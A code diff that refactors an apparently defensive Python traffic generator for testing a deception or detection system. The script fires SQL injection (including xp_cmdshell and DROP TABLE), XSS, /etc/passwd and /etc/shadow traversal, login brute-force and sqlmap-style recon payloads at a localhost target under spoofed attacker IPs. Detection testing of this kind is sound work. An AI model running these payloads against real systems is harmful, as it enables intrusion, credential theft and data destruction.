@@ -1,41 +1,117 @@
 #!/usr/bin/env python3
 import argparse
+import concurrent.futures
 import random
-import string
+import secrets
 import sys
 import threading
 import time
 import uuid
+from types import MappingProxyType
 
 import requests
 from colorama import Fore, Style, init
+from requests.adapters import HTTPAdapter
 
 init(autoreset=True)
 
 DEFAULT_TARGET = "http://localhost:30080"
 
+# One pooled session shared by every attack class. Sockets stay open
+# across waves (keep-alive), so only the first request to the target pays
+# a TCP handshake instead of every wave opening its own default-size
+# urllib3 pool and discarding it. Attacker identity travels in
+# per-request headers, not session state.
+SESSION = requests.Session()
+_adapter = HTTPAdapter(pool_connections=32, pool_maxsize=64, max_retries=0)
+SESSION.mount("http://", _adapter)
+SESSION.mount("https://", _adapter)
+
+
+class RatePacer:
+    """
+    Deadline-based pacing for attack waves.
+
+    Fixed time.sleep between requests adds the sleep on top of network
+    time, so a wave declared at "20 requests in 5 seconds" actually takes
+    sleep + RTT per request. The pacer schedules each request against an
+    absolute deadline and sleeps only for whatever remains of its slot —
+    network latency is absorbed into the budget and the declared rate is
+    what the detectors actually see.
+    """
+
+    def __init__(self, rate_per_second):
+        self.interval = 1.0 / rate_per_second
+        self._next = time.monotonic() + self.interval
+
+    def wait(self):
+        now = time.monotonic()
+        if now < self._next:
+            time.sleep(self._next - now)
+            self._next += self.interval
+        else:
+            # Fell behind (slow request) — restart the schedule from now
+            self._next = now + self.interval
+
+
+# (whole-second, formatted) pair; log lines within the same second
+# reuse the formatted timestamp instead of calling strftime again.
+_ts_cache = (0, "")
+
 
 def log_attack(label, color, msg):
-    ts = time.strftime("%H:%M:%S")
+    sec = int(time.time())
+    cached_sec, ts = _ts_cache
+    if sec != cached_sec:
+        ts = time.strftime("%H:%M:%S")
+        globals()["_ts_cache"] = (sec, ts)
     print(f"{color}[{ts}] [{label}] {msg}{Style.RESET_ALL}")
 
 
 def log_result(resp, label, color):
     try:
         status = resp.status_code
-        length = len(resp.content)
+        # Advertised length from the response headers, so streamed
+        # responses can be logged without downloading their bodies.
+        length = resp.headers.get("Content-Length", "?")
         node = resp.headers.get("X-Service-Node", "unknown")
         log_attack(label, color, f"  -> {status} ({length}B) node={node}")
     except Exception as e:
         log_attack(label, color, f"  -> Error: {e}")
 
 
-class SQLInjectionAttack:
+class _BaseAttack:
+    """
+    Shared setup for the traffic classes: the target plus the identity
+    headers every request carries. Subclasses declare LABEL, COLOR,
+    ATTACKER_IP and (when the default doesn't fit) USER_AGENT, and
+    implement their own run().
+    """
+
+    USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
+
+    def __init_subclass__(cls, **kwargs):
+        super().__init_subclass__(**kwargs)
+        # One read-only header dict per class, shared by every instance
+        # and safe to hand to concurrent waves.
+        cls.HEADERS = MappingProxyType({
+            "X-Forwarded-For": cls.ATTACKER_IP,
+            "X-Attacker-IP": cls.ATTACKER_IP,
+            "User-Agent": cls.USER_AGENT,
+        })
+
+    def __init__(self, target):
+        self.target = target
+        self.headers = self.HEADERS
+
+
+class SQLInjectionAttack(_BaseAttack):
     LABEL = "SQLi"
     COLOR = Fore.RED
     ATTACKER_IP = "192.168.1.66"
+    RATE = 3  # requests per second
 
-    PAYLOADS_URL = [
+    PAYLOADS_URL = (
         "1' OR '1'='1",
         "1' OR '1'='1'--",
         "1' OR '1'='1'/*",
@@ -48,36 +124,30 @@ class SQLInjectionAttack:
         "1'; EXEC xp_cmdshell('whoami');--",
         "1' AND 1=1 UNION SELECT table_name,NULL FROM information_schema.tables--",
         "1' OR 1=1#",
-    ]
+    )
 
-    PAYLOADS_BODY = [
+    PAYLOADS_BODY = (
         {"username": "admin' OR '1'='1'--", "password": "anything"},
         {"username": "admin", "password": "' OR '1'='1"},
         {"username": "'; DROP TABLE users;--", "password": "test"},
         {"email": "test@test.com' UNION SELECT * FROM users--"},
         {"search": "' UNION SELECT credit_card,NULL FROM orders--"},
         {"id": "1; INSERT INTO users(username,password) VALUES('hacker','hacked')"},
-    ]
-
-    def __init__(self, target):
-        self.target = target
-        self.session = requests.Session()
-        self.session.headers.update({
-            "X-Forwarded-For": self.ATTACKER_IP,
-            "X-Attacker-IP": self.ATTACKER_IP,
-            "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
-        })
+    )
 
     def run(self):
         log_attack(self.LABEL, self.COLOR, f"Starting SQL injection attack from {self.ATTACKER_IP}")
         sent = 0
 
+        pacer = RatePacer(self.RATE)
+
         log_attack(self.LABEL, self.COLOR, "Phase 1: URL parameter injection")
         for payload in self.PAYLOADS_URL:
             try:
-                resp = self.session.get(
+                resp = SESSION.get(
                     f"{self.target}/api/products",
                     params={"id": payload},
+                    headers=self.headers,
                     timeout=10,
                 )
                 log_attack(self.LABEL, self.COLOR, f"  GET /api/products?id={payload[:60]}")
@@ -85,14 +155,15 @@ class SQLInjectionAttack:
                 sent += 1
             except requests.RequestException as e:
                 log_attack(self.LABEL, self.COLOR, f"  Connection error: {e}")
-            time.sleep(0.3)
+            pacer.wait()
 
         log_attack(self.LABEL, self.COLOR, "Phase 2: POST body injection")
         for payload in self.PAYLOADS_BODY:
             try:
-                resp = self.session.post(
+                resp = SESSION.post(
                     f"{self.target}/api/cart/add",
                     json=payload,
+                    headers=self.headers,
                     timeout=10,
                 )
                 log_attack(self.LABEL, self.COLOR, f"  POST /api/cart/add body={payload}")
@@ -100,7 +171,7 @@ class SQLInjectionAttack:
                 sent += 1
             except requests.RequestException as e:
                 log_attack(self.LABEL, self.COLOR, f"  Connection error: {e}")
-            time.sleep(0.3)
+            pacer.wait()
 
         log_attack(self.LABEL, self.COLOR, f"Complete: {sent} payloads sent")
         print()
@@ -115,12 +186,13 @@ class SQLInjectionAttack:
         print()
 
 
-class XSSAttack:
+class XSSAttack(_BaseAttack):
     LABEL = "XSS"
     COLOR = Fore.YELLOW
     ATTACKER_IP = "192.168.1.77"
+    RATE = 4
 
-    PAYLOADS = [
+    PAYLOADS = (
         "<script>alert('XSS')</script>",
         "<img src=x onerror=alert('XSS')>",
         "<svg onload=alert('XSS')>",
@@ -133,26 +205,21 @@ class XSSAttack:
         "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
         "<svg><script>alert(1)</script></svg>",
         "data:text/html,<script>alert(1)</script>",
-    ]
+    )
 
-    def __init__(self, target):
-        self.target = target
-        self.session = requests.Session()
-        self.session.headers.update({
-            "X-Forwarded-For": self.ATTACKER_IP,
-            "X-Attacker-IP": self.ATTACKER_IP,
-            "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
-        })
+    USER_AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"
 
     def run(self):
         log_attack(self.LABEL, self.COLOR, f"Starting XSS attack from {self.ATTACKER_IP}")
         sent = 0
+        pacer = RatePacer(self.RATE)
 
         for payload in self.PAYLOADS:
             try:
-                resp = self.session.get(
+                resp = SESSION.get(
                     f"{self.target}/api/products",
                     params={"search": payload},
+                    headers=self.headers,
                     timeout=10,
                 )
                 log_attack(self.LABEL, self.COLOR, f"  GET /api/products?search={payload[:50]}")
@@ -160,12 +227,13 @@ class XSSAttack:
                 sent += 1
             except requests.RequestException as e:
                 log_attack(self.LABEL, self.COLOR, f"  Connection error: {e}")
-            time.sleep(0.3)
+            pacer.wait()
 
             try:
-                resp = self.session.post(
+                resp = SESSION.post(
                     f"{self.target}/api/cart/add",
                     json={"session_id": "xss-test", "product_id": 1, "quantity": 1, "name": payload},
+                    headers=self.headers,
                     timeout=10,
                 )
                 log_attack(self.LABEL, self.COLOR, f"  POST /api/cart/add name={payload[:50]}")
@@ -173,7 +241,7 @@ class XSSAttack:
                 sent += 1
             except requests.RequestException as e:
                 log_attack(self.LABEL, self.COLOR, f"  Connection error: {e}")
-            time.sleep(0.2)
+            pacer.wait()
 
         log_attack(self.LABEL, self.COLOR, f"Complete: {sent} payloads sent")
         print()
@@ -187,12 +255,13 @@ class XSSAttack:
         print()
 
 
-class DirectoryTraversal:
+class DirectoryTraversal(_BaseAttack):
     LABEL = "DirTrav"
     COLOR = Fore.MAGENTA
     ATTACKER_IP = "192.168.1.88"
+    RATE = 5
 
-    PATHS = [
+    PATHS = (
         "/../../../etc/passwd",
         "/../../../etc/shadow",
         "/../../../etc/hosts",
@@ -222,34 +291,33 @@ class DirectoryTraversal:
         "/graphql",
         "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
         "/..%252f..%252f..%252fetc/passwd",
-    ]
+    )
 
     def __init__(self, target):
-        self.target = target
-        self.session = requests.Session()
-        self.session.headers.update({
-            "X-Forwarded-For": self.ATTACKER_IP,
-            "X-Attacker-IP": self.ATTACKER_IP,
-            "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
-        })
+        super().__init__(target)
+        self._urls = [target + p for p in self.PATHS]
 
     def run(self):
         log_attack(self.LABEL, self.COLOR, f"Starting directory traversal from {self.ATTACKER_IP}")
         sent = 0
+        pacer = RatePacer(self.RATE)
 
-        for path in self.PATHS:
+        for path, url in zip(self.PATHS, self._urls):
             try:
-                resp = self.session.get(
-                    f"{self.target}{path}",
+                resp = SESSION.get(
+                    url,
+                    headers=self.headers,
                     timeout=10,
                     allow_redirects=False,
+                    stream=True,
                 )
                 log_attack(self.LABEL, self.COLOR, f"  GET {path}")
                 log_result(resp, self.LABEL, self.COLOR)
+                resp.close()
                 sent += 1
             except requests.RequestException as e:
                 log_attack(self.LABEL, self.COLOR, f"  Connection error: {e}")
-            time.sleep(0.2)
+            pacer.wait()
 
         log_attack(self.LABEL, self.COLOR, f"Complete: {sent} paths probed")
         print()
@@ -263,24 +331,17 @@ class DirectoryTraversal:
         print()
 
 
-class BruteForce:
+class BruteForce(_BaseAttack):
     LABEL = "Brute"
     COLOR = Fore.CYAN
     ATTACKER_IP = "192.168.1.99"
-
-    def __init__(self, target):
-        self.target = target
-        self.session = requests.Session()
-        self.session.headers.update({
-            "X-Forwarded-For": self.ATTACKER_IP,
-            "X-Attacker-IP": self.ATTACKER_IP,
-            "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
-        })
+    RATE = 4  # honors the "20 requests in 5 seconds" banner
 
     def run(self):
         log_attack(self.LABEL, self.COLOR, f"Starting brute force from {self.ATTACKER_IP}")
         log_attack(self.LABEL, self.COLOR, "Sending 20 requests in 5 seconds")
         sent = 0
+        pacer = RatePacer(self.RATE)
 
         endpoints = [
             "/api/cart/{sid}/checkout",
@@ -289,19 +350,31 @@ class BruteForce:
             "/api/auth/login",
         ]
 
-        start = time.time()
+        # Build all (endpoint, payload) pairs up front: the string
+        # formatting, dict literals and session-id generation happen
+        # before the clock starts, not inside the paced send loop.
+        # secrets.token_hex is a single C call per id.
+        attempts = []
         for i in range(20):
-            sid = "".join(random.choices(string.ascii_lowercase + string.digits, k=12))
-            endpoint = endpoints[i % len(endpoints)].format(sid=sid)
-            payload = {
-                "username": f"admin",
-                "password": f"password{i:03d}",
-                "session_id": sid,
-            }
+            sid = secrets.token_hex(6)
+            attempts.append(
+                (
+                    endpoints[i % len(endpoints)].format(sid=sid),
+                    {
+                        "username": "admin",
+                        "password": f"password{i:03d}",
+                        "session_id": sid,
+                    },
+                )
+            )
+
+        start = time.time()
+        for i, (endpoint, payload) in enumerate(attempts):
             try:
-                resp = self.session.post(
+                resp = SESSION.post(
                     f"{self.target}{endpoint}",
                     json=payload,
+                    headers=self.headers,
                     timeout=10,
                 )
                 log_attack(self.LABEL, self.COLOR, f"  POST {endpoint} attempt #{i+1}")
@@ -309,7 +382,7 @@ class BruteForce:
                 sent += 1
             except requests.RequestException as e:
                 log_attack(self.LABEL, self.COLOR, f"  Connection error: {e}")
-            time.sleep(0.25)
+            pacer.wait()
 
         elapsed = time.time() - start
         log_attack(self.LABEL, self.COLOR, f"Complete: {sent} requests in {elapsed:.1f}s")
@@ -325,12 +398,13 @@ class BruteForce:
         print()
 
 
-class ReconScanner:
+class ReconScanner(_BaseAttack):
     LABEL = "Recon"
     COLOR = Fore.BLUE
     ATTACKER_IP = "192.168.1.55"
+    RATE = 10
 
-    PATHS = [
+    PATHS = (
         "/", "/index.html", "/index.php", "/default.asp",
         "/admin", "/administrator", "/admin.php", "/admin/login",
         "/login", "/signin", "/auth", "/oauth",
@@ -342,36 +416,37 @@ class ReconScanner:
         "/.git", "/.svn", "/.hg", "/.env",
         "/robots.txt", "/sitemap.xml", "/crossdomain.xml",
         "/server-status", "/server-info", "/status",
-    ]
+    )
+
+    USER_AGENT = "sqlmap/1.5"
 
     def __init__(self, target):
-        self.target = target
-        self.session = requests.Session()
-        self.session.headers.update({
-            "X-Forwarded-For": self.ATTACKER_IP,
-            "X-Attacker-IP": self.ATTACKER_IP,
-            "User-Agent": "sqlmap/1.5",
-        })
+        super().__init__(target)
+        self._urls = [target + p for p in self.PATHS]
 
     def run(self):
         log_attack(self.LABEL, self.COLOR, f"Starting recon scan from {self.ATTACKER_IP}")
         log_attack(self.LABEL, self.COLOR, f"User-Agent: sqlmap/1.5 — scanning {len(self.PATHS)} paths")
         sent = 0
+        pacer = RatePacer(self.RATE)
 
-        for path in self.PATHS:
+        for path, url in zip(self.PATHS, self._urls):
             try:
-                resp = self.session.get(
-                    f"{self.target}{path}",
+                resp = SESSION.get(
+                    url,
+                    headers=self.headers,
                     timeout=5,
                     allow_redirects=False,
+                    stream=True,
                 )
                 status = resp.status_code
+                resp.close()
                 marker = "!" if status == 200 else " "
                 log_attack(self.LABEL, self.COLOR, f"  {marker} {status} {path}")
                 sent += 1
             except requests.RequestException:
                 log_attack(self.LABEL, self.COLOR, f"  x ERR {path}")
-            time.sleep(0.1)
+            pacer.wait()
 
         log_attack(self.LABEL, self.COLOR, f"Complete: {sent} paths scanned")
         print()
@@ -386,19 +461,15 @@ class ReconScanner:
         print()
 
 
-class LegitimateUser:
+class LegitimateUser(_BaseAttack):
     LABEL = "Legit"
     COLOR = Fore.GREEN
     USER_IP = "10.0.0.50"
+    ATTACKER_IP = USER_IP  # same identity headers, benign address
+    USER_AGENT = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
 
     def __init__(self, target):
-        self.target = target
-        self.session = requests.Session()
-        self.session.headers.update({
-            "X-Forwarded-For": self.USER_IP,
-            "X-Attacker-IP": self.USER_IP,
-            "User-Agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
-        })
+        super().__init__(target)
         self.session_id = str(uuid.uuid4()).replace("-", "")[:16]
 
     def run(self, continuous=False):
@@ -412,41 +483,43 @@ class LegitimateUser:
     def _browse_cycle(self):
         try:
             log_attack(self.LABEL, self.COLOR, "Browsing products...")
-            resp = self.session.get(f"{self.target}/api/products", timeout=10)
+            resp = SESSION.get(f"{self.target}/api/products", headers=self.headers, timeout=10)
             log_result(resp, self.LABEL, self.COLOR)
             time.sleep(random.uniform(1, 3))
 
             log_attack(self.LABEL, self.COLOR, "Viewing product details...")
             for pid in random.sample(range(1, 13), 3):
-                resp = self.session.get(f"{self.target}/api/products/{pid}", timeout=10)
+                resp = SESSION.get(f"{self.target}/api/products/{pid}", headers=self.headers, timeout=10)
                 log_result(resp, self.LABEL, self.COLOR)
                 time.sleep(random.uniform(1, 2))
 
             log_attack(self.LABEL, self.COLOR, "Browsing by category...")
             for cat in random.sample(["electronics", "clothing", "books"], 2):
-                resp = self.session.get(f"{self.target}/api/products/category/{cat}", timeout=10)
+                resp = SESSION.get(f"{self.target}/api/products/category/{cat}", headers=self.headers, timeout=10)
                 log_result(resp, self.LABEL, self.COLOR)
                 time.sleep(random.uniform(1, 3))
 
             log_attack(self.LABEL, self.COLOR, "Adding items to cart...")
             for pid in random.sample(range(1, 13), 2):
-                resp = self.session.post(
+                resp = SESSION.post(
                     f"{self.target}/api/cart/add",
                     json={"session_id": self.session_id, "product_id": pid, "quantity": 1},
+                    headers=self.headers,
                     timeout=10,
                 )
                 log_result(resp, self.LABEL, self.COLOR)
                 time.sleep(random.uniform(1, 2))
 
             log_attack(self.LABEL, self.COLOR, "Viewing cart...")
-            resp = self.session.get(f"{self.target}/api/cart/{self.session_id}", timeout=10)
+            resp = SESSION.get(f"{self.target}/api/cart/{self.session_id}", headers=self.headers, timeout=10)
             log_result(resp, self.LABEL, self.COLOR)
             time.sleep(random.uniform(2, 3))
 
             log_attack(self.LABEL, self.COLOR, "Checking out...")
-            resp = self.session.post(
+            resp = SESSION.post(
                 f"{self.target}/api/cart/{self.session_id}/checkout",
                 json={"session_id": self.session_id},
+                headers=self.headers,
                 timeout=10,
             )
             log_result(resp, self.LABEL, self.COLOR)
@@ -466,17 +539,19 @@ ATTACK_CLASSES = {
 }
 
 
-def run_all(target, delay):
+def run_all(target, delay, sequential=False, legit_users=1):
     print(f"\n{Fore.WHITE}{Style.BRIGHT}{'='*60}")
     print(f"  DECEPTION SYSTEM — Full Attack Simulation")
     print(f"  Target: {target}")
-    print(f"  Delay between waves: {delay}s")
+    if sequential:
+        print(f"  Delay between waves: {delay}s")
     print(f"{'='*60}{Style.RESET_ALL}\n")
 
-    legit = LegitimateUser(target)
-    legit_thread = threading.Thread(target=legit.run, kwargs={"continuous": True}, daemon=True)
-    legit_thread.start()
-    log_attack("Main", Fore.WHITE, "Legitimate user traffic running in background")
+    for _ in range(legit_users):
+        legit = LegitimateUser(target)
+        legit_thread = threading.Thread(target=legit.run, kwargs={"continuous": True}, daemon=True)
+        legit_thread.start()
+    log_attack("Main", Fore.WHITE, f"Legitimate user traffic running in background ({legit_users} user{'s' if legit_users != 1 else ''})")
     time.sleep(3)
 
     attack_sequence = [
@@ -487,12 +562,26 @@ def run_all(target, delay):
         ("traversal", DirectoryTraversal),
     ]
 
-    for name, cls in attack_sequence:
-        print(f"\n{Fore.WHITE}{Style.BRIGHT}--- Launching {name.upper()} attack wave ---{Style.RESET_ALL}\n")
-        attacker = cls(target)
-        attacker.run()
-        log_attack("Main", Fore.WHITE, f"Waiting {delay}s before next wave...")
-        time.sleep(delay)
+    if sequential:
+        for name, cls in attack_sequence:
+            print(f"\n{Fore.WHITE}{Style.BRIGHT}--- Launching {name.upper()} attack wave ---{Style.RESET_ALL}\n")
+            attacker = cls(target)
+            attacker.run()
+            log_attack("Main", Fore.WHITE, f"Waiting {delay}s before next wave...")
+            time.sleep(delay)
+    else:
+        # Each wave uses its own attacker IP and endpoints, and the work is
+        # all network waits, so the waves overlap cleanly on threads.
+        print(f"\n{Fore.WHITE}{Style.BRIGHT}--- Launching all attack waves in parallel ---{Style.RESET_ALL}\n")
+        with concurrent.futures.ThreadPoolExecutor(max_workers=len(attack_sequence)) as ex:
+            futures = {ex.submit(cls(target).run): name for name, cls in attack_sequence}
+            for future in concurrent.futures.as_completed(futures):
+                name = futures[future]
+                try:
+                    future.result()
+                    log_attack("Main", Fore.WHITE, f"{name.upper()} wave complete")
+                except Exception as e:
+                    log_attack("Main", Fore.WHITE, f"{name.upper()} wave failed: {e}")
 
     print(f"\n{Fore.WHITE}{Style.BRIGHT}{'='*60}")
     print(f"  All attack waves complete!")
@@ -538,6 +627,17 @@ Attack types:
         action="store_true",
         help="Keep running in a loop",
     )
+    parser.add_argument(
+        "--sequential",
+        action="store_true",
+        help="Run attack waves one at a time (deterministic timeline for detection testing)",
+    )
+    parser.add_argument(
+        "--legit-users",
+        type=int,
+        default=1,
+        help="Number of background legitimate users in 'all' mode (default: 1)",
+    )
 
     args = parser.parse_args()
 
@@ -552,24 +652,22 @@ Attack types:
     if args.attack_type == "all":
         if args.continuous:
             while True:
-                run_all(args.target, args.delay)
+                run_all(args.target, args.delay, sequential=args.sequential, legit_users=args.legit_users)
                 log_attack("Main", Fore.WHITE, f"Cycle complete. Restarting in {args.delay}s...")
                 time.sleep(args.delay)
         else:
-            run_all(args.target, args.delay)
+            run_all(args.target, args.delay, sequential=args.sequential, legit_users=args.legit_users)
     elif args.attack_type == "legitimate":
         attacker = LegitimateUser(args.target)
         attacker.run(continuous=args.continuous)
     else:
-        cls = ATTACK_CLASSES[args.attack_type]
+        attacker = ATTACK_CLASSES[args.attack_type](args.target)
         if args.continuous:
             while True:
-                attacker = cls(args.target)
                 attacker.run()
                 log_attack("Main", Fore.WHITE, f"Repeating in {args.delay}s...")
                 time.sleep(args.delay)
         else:
-            attacker = cls(args.target)
             attacker.run()
 
 